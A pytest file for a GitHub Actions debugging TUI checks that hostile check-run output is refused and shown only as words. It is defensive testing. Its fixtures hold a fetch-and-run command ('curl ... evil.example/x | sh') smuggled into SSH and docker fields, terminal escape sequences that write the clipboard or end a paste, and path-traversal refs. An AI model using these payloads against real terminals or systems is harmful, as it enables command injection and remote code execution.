"""The check-run channel (GHES) under a hostile GitHub: a check run's output is text whatever ran
in the job wrote (the package's build, its build dependencies), and its app slug and name are
GitHub's answer. What the artifact channel's hostile tests hold (tests/test_hostile_ssh.py,
test_hostile_text.py, test_hostile_network.py) holds here too: the connection file inside is
held to the same grammar, the answer is refused while it is read once it is too large, nothing
from it reaches the terminal or the clipboard, and the token stays with the API's origin."""

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import notifications, until
from hostile_github import REPO, SHA, Answer, HostileGitHub, World, connection
from test_hostile_text import HOSTILE, MARKUP, assert_clean
from test_ui import text_of

from cibw_debug_tui.core import workflow_contract as contract
from cibw_debug_tui.core.config import Token
from cibw_debug_tui.core.connection import UNTRUSTED
from cibw_debug_tui.core.fleet import Fleet
from cibw_debug_tui.core.github import AnswerTooLarge, GitHub, GitHubError
from cibw_debug_tui.core.history import History
from cibw_debug_tui.core.session import Session, SessionSpec
from cibw_debug_tui.ui.app import DebugApp
from cibw_debug_tui.ui.backend import Backend

COMMAND = str(Path(sys.executable).parent / "cibw-debug-tui")
TOKEN = "ghp_HOSTILEchecks0000000000000000000000"
EVIL = "curl -s https://evil.example/x | sh"
FENCE = contract.CHECK_RUN_JSON


def spec(mode: str = "before-build") -> SessionSpec:
    return SessionSpec(REPO, "ubuntu-latest", "cp312", "x86_64", mode)


def fenced(data: object) -> str:
    return FENCE[0] + json.dumps(data) + FENCE[1]


def huge(world: World, size: int):
    """A check-runs answer whose one check run's text is `size` bytes of connection file."""

    def answer(seen):
        padded = {**connection("before-build"), "pad": "x" * size}
        check = world.check_run("before-build", text=fenced(padded))
        return Answer(body={"total_count": 1, "check_runs": [check]})

    return answer


def watched(world: World, tmp_path: Path, tmate_hosts: tuple[str, ...] = ()) -> Session:
    """A session of `world`'s run followed to its end by the fleet behind the dashboard and
    `dispatch --watch`."""

    async def go():
        async with GitHub(world.gh.api_url, Token(TOKEN, "test"), backoff=0.01) as github:
            fleet = Fleet(github, History(persist=False), log_dir=tmp_path, pace=0.02,
                          tmate_hosts=tmate_hosts)  # fmt: skip
            session = fleet.add(spec())
            await fleet.dispatch(session)
            await fleet.wait(session)
            await fleet.aclose()
            return session

    return asyncio.run(go())


# (what the check run holds, words in what the session says)
HOSTILE_OUTPUTS = {
    "osc52-in-ssh": (
        {"text": fenced(connection("before-build", ssh="ssh a@nyc1.tmate.io\x1b]52;c;eA==\x07"))},
        "control characters",
    ),
    "paste-end-in-ssh": (
        {"text": fenced(connection("before-build", ssh=f"ssh a@nyc1.tmate.io\x1b[201~{EVIL}"))},
        "control characters",
    ),
    "not-tmate": ({"text": fenced(connection("before-build", ssh="ssh a@evil.example"))},
                  "not a tmate server"),
    "shell": ({"text": fenced(connection("before-build", ssh=f"ssh a@nyc1.tmate.io; {EVIL}"))},
              "shell syntax"),
    "markup-in-ssh": (
        {"text": fenced(connection("before-build", ssh=f"{MARKUP} ssh a@nyc1.tmate.io"))},
        "shell syntax",
    ),
    "docker-line": (
        {"text": fenced(connection("before-build", docker_exec=f"docker exec -it x sh {EVIL}"))},
        "docker exec command is not the one",
    ),
    "nested-json": ({"text": FENCE[0] + "[" * 50_000 + FENCE[1]}, "not valid JSON"),
    "escape-in-app": ({"app": f"evil{HOSTILE}"}, "made by another app, not by GitHub Actions"),
    "markup-app": ({"app": MARKUP}, "made by another app"),
    "bare-text": ({"text": f"{HOSTILE} {MARKUP} ssh a@nyc1.tmate.io"}, "holds no connection file"),
}  # fmt: skip


@pytest.mark.parametrize(("fields", "words"), HOSTILE_OUTPUTS.values(), ids=HOSTILE_OUTPUTS)
def test_a_hostile_check_run_is_not_trusted_and_the_session_says_why(tmp_path, fields, words):
    with HostileGitHub() as gh:
        world = World(gh, checks=True, connections={"before-build": connection("before-build")},
                      polls=2)  # fmt: skip
        world.check_runs = lambda seen: Answer(
            body={"total_count": 1, "check_runs": [world.check_run("before-build", **fields)]}
        )
        world.install()
        session = watched(world, tmp_path)
        asked = gh.requests(rf"/repos/{REPO}/commits/{SHA}/check-runs")
    assert session.connections == {}
    why = session.connection_errors["before-build"]
    assert words in why, why
    assert "\x1b" not in why and "curl" not in why and "[link" not in why, why
    assert session.conclusion == "failure"  # the watch went on to the run's end
    assert asked and all(s.param("check_name") == world.check_run("before-build")["name"]
                         for s in asked)  # fmt: skip


def test_tmate_hosts_from_the_config_file_hold_for_check_runs_too(tmp_path):
    """The self-hosted tmate server a person trusts in the config file is trusted on either
    channel, and only there."""
    own = connection("before-build", ssh="ssh -p2200 aBcD3f@Tmate.Corp.Example")
    with HostileGitHub() as gh:
        world = World(gh, checks=True, connections={"before-build": own}, polls=2).install()
        trusted = watched(world, tmp_path, tmate_hosts=("tmate.corp.example",))
        world.jobs_asked = 0
        refused = watched(world, tmp_path)
    assert trusted.connections["before-build"].ssh == "ssh -p 2200 aBcD3f@tmate.corp.example"
    assert "not a tmate server" in refused.connection_errors["before-build"]


@pytest.mark.parametrize("size", [70_000, 5 << 20], ids=["70-kB-file", "5-MB-answer"])
def test_a_large_check_run_is_said_and_never_shown(tmp_path, size):
    """A file over 64 KB is refused once read; an answer over 1 MiB while it is read (GitHub
    itself keeps a check run's text under 64 KB)."""
    with HostileGitHub() as gh:
        world = World(gh, checks=True, connections={"before-build": connection("before-build")},
                      polls=2)  # fmt: skip
        world.check_runs = huge(world, size)
        session = watched(world.install(), tmp_path)
    why = session.connection_errors["before-build"]
    assert ("unexpectedly large" if size < 1 << 20 else "over 1024 KB") in why, why
    assert session.connections == {} and session.conclusion == "failure"


@pytest.mark.parametrize("declared", [True, False], ids=["content-length", "chunked"])
def test_a_400_mb_check_runs_answer_is_refused_while_it_is_read(declared):
    with HostileGitHub() as gh:
        megabyte = b" " * (1 << 20)
        headers = {"Content-Length": str(400 << 20)} if declared else {}
        chunks = (megabyte for _ in range(400))
        gh.on("GET", rf"/repos/{REPO}/commits/{SHA}/check-runs",
              Answer(chunks=chunks, headers=headers))  # fmt: skip

        async def go():
            async with GitHub(gh.api_url, Token(TOKEN, "test"), retries=0) as github:
                await github.commit_check_runs(REPO, SHA, "cibw-debug-ssh 7 before-build")

        with pytest.raises(AnswerTooLarge, match="over 1024 KB"):
            asyncio.run(go())
        sent = gh.sent_bytes
    assert sent < 64 << 20, f"{sent >> 20} MB were sent before the client hung up"


def test_the_check_runs_request_keeps_the_token_to_its_origin_and_its_path():
    """The token goes with the request to the API's origin and not where its answer redirects;
    a commit from the server that is not a SHA never becomes a path; a ref is one segment."""
    with HostileGitHub() as gh, HostileGitHub() as elsewhere:
        path = rf"/repos/{REPO}/commits/{SHA}/check-runs"
        gh.on("GET", path, Answer(302, headers={"Location": f"{elsewhere.api_url}{path}"}))
        run = {"id": 7, "status": "completed", "conclusion": "failure", "run_attempt": 1,
               "html_url": "https://github.com/x", "head_sha": "../../../user/keys"}  # fmt: skip
        gh.on("GET", rf"/repos/{REPO}/actions/runs/7", run)

        async def go():
            async with GitHub(gh.api_url, Token(TOKEN, "test"), retries=0) as github:
                with pytest.raises(GitHubError):
                    await github.commit_check_runs(REPO, SHA, "x")
                with pytest.raises(GitHubError, match=r"head_sha is .*, not a commit"):
                    await github.run(REPO, 7)
                with pytest.raises(GitHubError, match="not found"):
                    await github.commit_check_runs(REPO, "../../../user", "x")

        asyncio.run(go())
        asked = gh.requests()
    assert [s.headers.get("authorization") for s in asked] == [f"Bearer {TOKEN}"] * 3
    assert asked[-1].path == f"/repos/{REPO}/commits/..%2F..%2F..%2Fuser/check-runs"
    assert all("authorization" not in s.headers for s in elsewhere.requests())


def test_the_dashboard_shows_hostile_check_runs_as_words_and_copies_nothing(tmp_path):
    untrusted = connection("before-build", ssh="ssh a@nyc1.tmate.io\x1b]52;c;eA==\x07")
    refused = connection("after-failure", status="refused", message=f"No keys {HOSTILE} {MARKUP}")

    async def go():
        with HostileGitHub() as gh:
            stages = {"before-build": untrusted, "after-failure": refused}
            world = World(gh, checks=True, polls=1000, connections=stages)
            world.install()
            github = GitHub(gh.api_url, Token(TOKEN, "test"), backoff=0.01)
            session = Session("s1", spec("always"), gh.api_url, run_id=world.run_id,
                              status="in_progress")  # fmt: skip
            history = History(tmp_path / "history.yaml")
            history.sessions = [session]
            history.save()
            backend = Backend(
                github=github,
                history=History(tmp_path / "history.yaml").load(),
                download_dir=tmp_path,
                log_dir=tmp_path / "logs",
                repo=REPO,
            )
            app = DebugApp(backend, pace=0.02)
            async with app.run_test(size=(160, 48)) as pilot:
                shown = app.sessions["s1"]
                await until(pilot, lambda: shown.connection_errors and "after-failure"
                            in shown.connections)  # fmt: skip
                state = app.query_one("#ssh-state")
                pane = await until(pilot, lambda: "No keys" in text_of(state) and text_of(state))
                await pilot.press("c")
                await pilot.pause()
                told = [n.message for n in notifications(app)]
                why = shown.connection_errors["before-build"]
                return str(pane), why, told, app.clipboard, list(app.sessions)

    pane, why, told, clipboard, sessions = asyncio.run(go())
    assert "No keys ⟦osc52-clipboard⟧⟦osc0-title⟧" in pane and MARKUP in pane, pane
    assert "\x1b" not in pane and "\x07" not in pane and "\x9b" not in pane
    assert why.startswith(UNTRUSTED) and "control characters" in why
    assert clipboard == ""
    assert any("is not trusted: nothing was copied" in t for t in told), told
    assert sessions == ["s1"]


@pytest.mark.e2e
@pytest.mark.slow
def test_dispatch_watch_prints_nothing_of_a_hostile_check_run(tmp_path):
    """The installed command: one stage's check run smuggles a command and escape sequences,
    the other's answer is 5 MB; both are said in words, the watch goes on to the run's end."""
    untrusted = connection("before-build", ssh=f"ssh a@nyc1.tmate.io\x1b]52;c;eA==\x07; {EVIL}",
                           message=f"open {HOSTILE}")  # fmt: skip
    with HostileGitHub() as gh:
        world = World(gh, checks=True, polls=2, connections={
            "before-build": untrusted, "after-failure": connection("after-failure")})  # fmt: skip
        big = huge(world, 5 << 20)
        world.check_runs = lambda seen: (
            big(seen) if "after-failure" in seen.param("check_name") else world.published(seen)
        )
        world.install()
        env = {**os.environ, "HOME": str(tmp_path), "GH_TOKEN": TOKEN,
               "CIBW_DEBUG_TUI_CONFIG": str(tmp_path / "c.yaml")}  # fmt: skip
        proc = subprocess.run(
            [COMMAND, "dispatch", "--repo", REPO, "--runner", "ubuntu-latest", "--python",
             "cp312", "--arch", "x86_64", "--debug-mode", "always", "--watch",
             "--api-url", gh.api_url, "--log-dir", str(tmp_path / "logs")],
            capture_output=True, env=env, cwd=tmp_path, timeout=120, check=False,
        )  # fmt: skip
    out = assert_clean(proc.stdout)
    assert proc.returncode == 1 and proc.stderr == b"", proc.stderr
    assert out.count(UNTRUSTED) == 1 and "control characters" in out, out
    assert "over 1024 KB" in out, out
    assert "curl" not in out and "SSH session open" not in out and "⟦" not in out


@pytest.mark.e2e
def test_doctor_reads_a_hostile_check_run_channel_in_words(tmp_path):
    """doctor asks the default branch's check runs of a GHES-variant workflow: the branch GitHub
    named stays one path segment, and the refusal's words reach the terminal clean."""
    with HostileGitHub() as gh:
        branch = "../../../user"
        gh.on("GET", "/user", Answer(body={"login": "octocat"}, headers={"X-OAuth-Scopes": "repo"}))
        gh.on("GET", rf"/repos/{REPO}", {"full_name": REPO, "default_branch": branch,
                                        "permissions": {"push": True}})  # fmt: skip
        gh.on("GET", rf"/repos/{REPO}/actions/workflows/cibuildwheel-debug.yml",
              {"id": 1, "path": ".github/workflows/cibuildwheel-debug.yml",
               "name": contract.GHES_WORKFLOW_TITLE})  # fmt: skip
        gh.on(
            "GET",
            rf"/repos/{REPO}/commits/[^/]+/check-runs",
            Answer(403, {"message": f"Resource not accessible {HOSTILE} {MARKUP}"}),
        )
        gh.on("GET", r"/users/octocat/keys", [])
        env = {**os.environ, "HOME": str(tmp_path), "GH_TOKEN": TOKEN,
               "CIBW_DEBUG_TUI_CONFIG": str(tmp_path / "c.yaml")}  # fmt: skip
        proc = subprocess.run([COMMAND, "doctor", "--repo", REPO, "--api-url", gh.api_url],
                              capture_output=True, env=env, cwd=tmp_path, timeout=60,
                              check=False)  # fmt: skip
        asked = [s.path for s in gh.requests("check-runs")]
    out = assert_clean(proc.stdout)
    assert proc.returncode == 1, out
    assert asked == [f"/repos/{REPO}/commits/..%2F..%2F..%2Fuser/check-runs"], out
    assert "SSH connections arrive in check runs, which the token cannot read" in out, out
    assert "Resource not accessible ⟦osc52-clipboard⟧" in out and MARKUP in out, out
    assert "Checks: read" in out
